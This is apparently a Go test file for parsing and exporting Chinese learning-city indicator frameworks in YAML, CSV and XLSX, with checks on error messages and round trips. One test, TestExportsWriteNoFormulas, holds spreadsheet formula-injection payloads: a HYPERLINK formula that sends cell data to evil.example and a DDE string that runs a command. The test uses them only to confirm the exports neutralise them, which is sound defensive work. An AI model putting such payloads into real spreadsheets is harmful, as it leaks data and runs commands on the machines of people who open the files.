package framework

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/lcmonitor/evidence/catalog"
)

func read(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestParseDemoYAML(t *testing.T) {
	p, err := Parse("demo-learning-city.yaml", Demo, catalog.Framework{})
	if err != nil {
		t.Fatalf("parse demo: %v", err)
	}
	if p.Framework.ID != "demo-learning-city" || p.Framework.Version != "demo-1" || p.Framework.Name == "" {
		t.Errorf("framework %+v", p.Framework)
	}
	levels := map[int]int{}
	var bank *catalog.Indicator
	for i, ind := range p.Indicators {
		levels[ind.Level]++
		if ind.Code == "2.3.1" {
			bank = &p.Indicators[i]
		}
	}
	if levels[1] != 5 || levels[2] == 0 || levels[3] == 0 {
		t.Errorf("levels %v", levels)
	}
	if bank == nil || bank.ParentCode != "2.3" || bank.Kind != catalog.Qualitative || !contains(bank.Keywords, "学分银行") {
		t.Errorf("2.3.1 = %+v", bank)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestParseTables(t *testing.T) {
	xlsx := makeXLSX(t, [][]string{
		{"编码", "指标名称", "类型", "信息性质说明", "关键词"},
		{"1", "组织保障", "", "", ""},
		{"1.1", "规划与政策法规", "", "", ""},
		{"1.1.1", "出台推进学习型城市建设的决定", "定性", "政策文件", "决定、意见"},
	})
	tests := []struct {
		file string
		data []byte
		keys int
	}{
		{"good.csv", read(t, "good.csv"), 4},
		{"good-gbk.csv", read(t, "good-gbk.csv"), 4},
		{"table.xlsx", xlsx, 1},
	}
	for _, tt := range tests {
		p, err := Parse(tt.file, tt.data, catalog.Framework{Name: "测试指标体系", Version: "2"})
		if err != nil {
			t.Errorf("%s: %v", tt.file, err)
			continue
		}
		keys := 0
		for _, ind := range p.Indicators {
			if ind.Level == 3 {
				keys++
				if ind.Kind == "" || len(ind.Keywords) == 0 {
					t.Errorf("%s: %s has kind %q keywords %v", tt.file, ind.Code, ind.Kind, ind.Keywords)
				}
			}
		}
		if keys != tt.keys || p.Framework.Name != "测试指标体系" || p.Framework.Version != "2" {
			t.Errorf("%s: %d key indicators, framework %+v", tt.file, keys, p.Framework)
		}
		if tt.file == "good.csv" {
			ind := p.Indicators[len(p.Indicators)-2]
			if ind.Code != "2.1.1" || strings.Join(ind.Keywords, "|") != "学分银行|学分转换" {
				t.Errorf("keywords split: %+v", ind)
			}
		}
	}
}

func TestParseReportsEveryBadRow(t *testing.T) {
	_, err := Parse("bad.csv", read(t, "bad.csv"), catalog.Framework{})
	if catalog.ErrorCode(err) != catalog.EINVALID {
		t.Fatalf("bad.csv: %v, want EINVALID", err)
	}
	msg := catalog.ErrorMessage(err)
	for _, want := range []string{
		"第 5 行(编码“1.1.1”):编码重复",
		"第 6 行(编码“1.2.1”):缺少上级指标 1.2",
		"第 7 行(编码“1.1.2”):未知的指标类型",
		"第 8 行(编码“1.1.3.1”):指标体系最多三级",
		"第 9 行(编码“1.1.4”):缺少指标名称",
		"第 10 行(编码“1.1.5”):关键指标(三级)必须注明类型",
	} {
		if want = catalog.Fullwidth(want); !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	// The English UI lists the same rows in English, every word of ours
	// translated (the kind the file gave and the framework's 定性/定量 aside).
	english := catalog.MessageIn(err, true)
	for _, want := range []string{
		"The framework has 6 errors, so nothing was imported:",
		`Row 5 (code “1.1.1”): the code is given twice`,
		`Row 6 (code “1.2.1”): its parent indicator 1.2 is missing`,
		`Row 8 (code “1.1.3.1”): a framework has at most three levels; this code has 4`,
		`Row 10 (code “1.1.5”): a key (level-3) indicator must give its kind`,
	} {
		if !strings.Contains(english, want) {
			t.Errorf("English lacks %q:\n%s", want, english)
		}
	}
	for _, line := range strings.Split(english, "\n") {
		if strings.ContainsFunc(strings.NewReplacer("定性", "", "定量", "", "重要", "").Replace(line), func(r rune) bool { return unicode.Is(unicode.Han, r) }) {
			t.Errorf("English line with Chinese: %q", line)
		}
	}
}

func TestParseRejectsBadFiles(t *testing.T) {
	tests := []struct {
		file, data, phrase string
	}{
		{"x.yaml", "framework: [unclosed", "YAML 格式错误"},
		{"x.csv", "编码,名称\n1,组织保障\n", "没有含 指标类型\uFF08kind\uFF09列的表头"},
		{"x.csv", "code,name,kind\n", "没有任何指标"},
		{"x.xlsx", "not a zip", "不是有效的 Excel 或 WPS 表格文件\uFF1B请用 Excel 或 WPS 另存为 .xlsx 后再导入"},
		{"x.json", "{}", "不支持"},
		{"x.yaml", "indicators:\n  - code: \"1\"\n    name: 组织保障\n    children:\n      - {code: \"2.1\", name: 错位的指标}\n", "与所在的上级"},
	}
	for _, tt := range tests {
		_, err := Parse(tt.file, []byte(tt.data), catalog.Framework{})
		if catalog.ErrorCode(err) != catalog.EINVALID || !strings.Contains(catalog.ErrorMessage(err), tt.phrase) {
			t.Errorf("%s %.20q: %v, want %q", tt.file, tt.data, err, tt.phrase)
		}
	}
}

func TestExportRoundTrips(t *testing.T) {
	p, err := Parse("demo.yaml", Demo, catalog.Framework{})
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range exportAll(t, p, "again") {
		q, err := Parse(name, data, p.Framework)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if len(q.Indicators) != len(p.Indicators) {
			t.Errorf("%s: %d indicators, want %d", name, len(q.Indicators), len(p.Indicators))
			continue
		}
		for i := range p.Indicators {
			a, b := p.Indicators[i], q.Indicators[i]
			if a.Code != b.Code || a.Name != b.Name || a.Kind != b.Kind || a.Info != b.Info || a.InfoEN != b.InfoEN || a.NameEN != b.NameEN || strings.Join(a.Keywords, ",") != strings.Join(b.Keywords, ",") {
				t.Errorf("%s: indicator %d = %+v, want %+v", name, i, b, a)
				break
			}
		}
	}
}

// exportAll is p exported in every format, by file name (base.yaml,
// base.xlsx, base.csv).
func exportAll(t *testing.T, p *Parsed, base string) map[string][]byte {
	t.Helper()
	y, err := ExportYAML(p.Framework, p.Indicators)
	if err != nil {
		t.Fatal(err)
	}
	x, err := ExportXLSX(p.Framework, p.Indicators)
	if err != nil {
		t.Fatal(err)
	}
	c, err := ExportCSV(p.Indicators)
	if err != nil {
		t.Fatal(err)
	}
	return map[string][]byte{base + ".yaml": y, base + ".xlsx": x, base + ".csv": c}
}

func makeXLSX(t *testing.T, rows [][]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		vals := make([]any, len(r))
		for j, v := range r {
			vals[j] = v
		}
		if err := f.SetSheetRow("Sheet1", cell, &vals); err != nil {
			t.Fatal(err)
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestExportsWriteNoFormulas(t *testing.T) {
	p, err := Parse("demo.yaml", Demo, catalog.Framework{})
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
	p.Indicators[0].Name = evil
	p.Indicators[0].Info = "+1+cmd|' /C calc'!A0"
	p.Indicators[0].Keywords = []string{"@SUM(1)", "学分银行"}
	c, err := ExportCSV(p.Indicators)
	if err != nil {
		t.Fatal(err)
	}
	x, err := ExportXLSX(p.Framework, p.Indicators)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(strings.NewReader(string(x)))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(c), "\xef\xbb\xbf"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for name, table := range map[string][][]string{"csv": records, "xlsx": rows} {
		for _, rec := range table {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("%s export has a cell a spreadsheet runs as a formula: %q", name, cell)
				}
			}
		}
	}
	for name, data := range map[string][]byte{"again.csv": c, "again.xlsx": x} {
		q, err := Parse(name, data, p.Framework)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if got := q.Indicators[0]; got.Name != evil || got.Info != p.Indicators[0].Info || got.Keywords[0] != "@SUM(1)" {
			t.Errorf("%s does not import back as exported: %q %q %q", name, got.Name, got.Info, got.Keywords)
		}
	}
}

// TestFrameworkErrorsComeInRowOrder: a duplicate code found late is listed
// at its row, one problem per line, not ahead of the rows before it.
func TestFrameworkErrorsComeInRowOrder(t *testing.T) {
	csv := "code,name,kind\n1,组织保障,\n1.1,规划,\n1.1.1,出台决定,定性\n1.1.2,,定性\n1.1.1,重复的指标,定性\n1.1.3,类型写错,重要\n"
	_, err := Parse("表.csv", []byte(csv), catalog.Framework{})
	lines := strings.Split(catalog.ErrorMessage(err), "\n")
	want := []string{"第 5 行", "第 6 行", "第 7 行"}
	if len(lines) != len(want)+1 {
		t.Fatalf("want a heading and %d lines, got %q", len(want), lines)
	}
	for i, w := range want {
		if !strings.HasPrefix(lines[i+1], w) {
			t.Errorf("line %d is %q, want it to begin with %s", i+1, lines[i+1], w)
		}
	}
}
